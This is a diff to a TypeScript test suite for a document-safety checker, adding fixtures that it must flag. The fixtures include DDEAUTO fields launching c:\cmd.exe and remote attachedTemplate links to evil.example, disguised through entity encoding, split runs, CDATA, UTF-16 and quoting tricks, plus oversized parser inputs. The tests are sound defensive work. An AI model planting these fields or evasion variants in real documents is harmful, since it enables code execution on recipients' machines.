@@ -1,4 +1,5 @@
 import { deflateSync } from 'node:zlib'
+import { randomBytes } from 'node:crypto'
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
 import { type Judged, judge } from './judge.ts'
@@ -27,11 +28,33 @@ test.each([
     ]),
     'taken as docx',
   ],
+  [
+    'letter.docx',
+    docx([{ name: 'word/footer1.xml', content: footer(' PAGE ', ' HYPERLINK "http://dde.example"', 'TOC', ' DDEs', 'D', 'OCPROPERTY E') }]),
+    'taken as docx',
+  ],
+  ['letter.docx', docx([{ name: 'word/media/a.png', content: png() }]), 'taken as docx'],
+  [
+    'letter.docx',
+    docx([{ name: 'word/a.xml', content: Buffer.from('\uFEFF<?xml version="1.0" encoding="UTF-16"?><a/>', 'utf16le') }]),
+    'taken as docx',
+  ],
+  [
+    'letter.docx',
+    docx([{ name: 'word/a.xml', content: "<?xml version='1.0'?><!-- <> --><a b='>' c = \"'\"\n><![CDATA[<&]]>&lt;<d /></a >" }]),
+    'taken as docx',
+  ],
   ['numbers.pdf', pdf('1 0 obj << /Type /Catalog /JSON 1 /Launched true >> endobj'), 'taken as pdf'],
 ])('%s of a person is taken', async (name, bytes, expected) => expect(await verdict(name, bytes)).toBe(expected))
 
-function link(type: string): string {
-  return `<Relationships><Relationship Id="a" Type="http://x/relationships/${type}" Target="http://evil.example/x" TargetMode="External"/></Relationships>`
+function link(type: string, attributes = 'TargetMode="External"', name = 'Relationship'): string {
+  return `<Relationships><${name} Id="a" Type="http://x/relationships/${type}" Target="http://evil.example/x" ${attributes}/></Relationships>`
+}
+
+/** A field whose instruction is written in these pieces. */
+function footer(...pieces: string[]): string {
+  const runs = pieces.map(piece => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')
+  return `<w:ftr><w:p><w:fldChar w:fldCharType="begin"/>${runs}<w:fldChar w:fldCharType="end"/></w:p></w:ftr>`
 }
 
 const page = '<!doctype html><script>alert(1)</script>'
@@ -107,8 +130,75 @@ describe('what is something else than it says is refused', () => {
     ['a template from elsewhere', 'x.docx', docx([{ name: 'word/_rels/settings.xml.rels', content: link('attachedTemplate') }]), 'active'],
     ['an entity', 'x.docx', docx([{ name: 'word/x.xml', content: '<!DOCTYPE a [<!ENTITY b "c">]>' }]), 'active'],
     ['a field that starts a program', 'x.docx', docx([{ name: 'word/x.xml', content: '<w:instrText> DDEAUTO c:\\cmd.exe' }]), 'active'],
+    [
+      'one in a part that is called a picture',
+      'x.docx',
+      docx([{ name: 'word/x.png', content: ` ${footer('DDEAUTO c:\\cmd.exe')}` }]),
+      'active',
+    ],
+    ['what is no XML', 'x.docx', docx([{ name: 'word/x.xml', content: '<a b=c>' }]), 'broken'],
+    [
+      'a part in letters that nobody reads',
+      'x.docx',
+      docx([{ name: 'word/x.xml', content: '<?xml version="1.0" encoding="UTF-7"?><a/>' }]),
+      'broken',
+    ],
+    ['more text than anybody writes', 'x.docx', docx([{ name: 'word/x.xml', content: `<a>${noise(21_000_000)}</a>` }]), 'broken'],
   ])('%s', async (_, name, bytes, expected) => expect(await verdict(name, bytes)).toBe(expected))
 })
+
+describe('a template from elsewhere is found however it is written', () => {
+  test.each([
+    ['with a letter in numbers', link('attachedTemplate', 'TargetMode="&#69;xternal"')],
+    ['with a letter in long numbers', link('attachedTemplate', 'TargetMode="&#x0000045;xternal"')],
+    ['behind a sign that ends a tag', link('attachedTemplate', 'a=">" TargetMode="External"')],
+    ['in single quotes', link('attachedTemplate', "TargetMode\n=\n'External'")],
+    ['with a prefix', link('attachedTemplate', 'xmlns:p="x" TargetMode="External"', 'p:Relationship')],
+    ['with a second type', link('attachedTemplate', 'x:Type="http://x/relationships/hyperlink" TargetMode="External"')],
+    ['in two bytes a letter', Buffer.from(link('attachedTemplate'), 'utf16le')],
+    ['in two bytes a letter, the other way round', Buffer.from(link('attachedTemplate'), 'utf16le').swap16()],
+  ])('%s', async (_, content) => expect(await verdict('x.docx', docx([{ name: 'word/_rels/settings.xml.rels', content }]))).toBe('active'))
+})
+
+describe('a field that starts a program is found however it is written', () => {
+  test.each([
+    ['in pieces', footer('D', 'DEAU', 'TO c:\\cmd.exe')],
+    ['in pieces after others', footer('PAGE', ' D', '<!-- -->', 'D<!-- -->E', ' c:\\cmd.exe')],
+    ['with a letter in numbers', footer('&#68;DEAUTO c:\\cmd.exe')],
+    ['in single quotes', "<w:fldSimple w:instr='DDEAUTO c:\\cmd.exe'/>"],
+    ['with a sign that ends a tag', '<w:fldSimple w:x=">" w:instr = "&#x20;dde c:\\cmd.exe"/>'],
+    ['as it stands', footer('<![CDATA[DDEAUTO]]> c:\\cmd.exe')],
+    ['with another prefix', '<a:instrText>DDE c:\\cmd.exe</a:instrText>'],
+    ['behind more blanks than anybody writes', footer(`${'&#32;'.repeat(1000)}DDEAUTO c:\\cmd.exe`)],
+    [
+      'behind an end that is none',
+      `<w:p><w:instrText>D</w:instrText><x:fldChar x:fldCharType="end"/></w:p>${footer('DEAUTO c:\\cmd.exe')}`,
+    ],
+  ])('%s', async (_, content) => expect(await verdict('x.docx', docx([{ name: 'word/footer1.xml', content }]))).toBe('active'))
+})
+
+// Millions of letters: whoever goes over them for each of them again is not done in a day.
+test.each([
+  ['a field without end', 'word/x.xml', '<w:instrText', 'broken'],
+  ['fields without end', 'word/x.xml', '<w:instrText>', 'taken as docx'],
+  ['fields that say little', 'word/x.xml', '<w:instrText>D</w:instrText>', 'taken as docx'],
+  ['a relation without end', 'word/_rels/x.rels', '<Relationship ', 'broken'],
+  ['an attribute without end', 'word/x.xml', '<a b="x', 'broken'],
+  ['entities', 'word/x.xml', '&#&#68;', 'taken as docx'],
+  ['comments without end', 'word/x.xml', '<!--', 'broken'],
+  ['types of a workbook', 'word/x', '<a b="spreadsheetml.', 'broken'],
+])('%s, a million times over, is judged', async (_, name, letters, expected) => {
+  const content = letters.repeat(5_000_000 / letters.length)
+  expect(await verdict('x.docx', docx([{ name, content, stored: true }]))).toBe(expected)
+})
+
+test('types of documents are read in one go, too', async () => {
+  const types = 'spreadsheetml'.repeat(300_000)
+  expect(await verdict('x.docx', docx([], { types }))).toBe('broken')
+})
+
+/** Letters that do not pack better than a text. */
+const noise = (length: number): string => randomBytes(length / 2).toString('hex')
 
 function enormous(): Buffer {
   const header = Buffer.from([0, 15, 255, 255, 0, 15, 255, 255, 8, 0, 0, 0, 0])
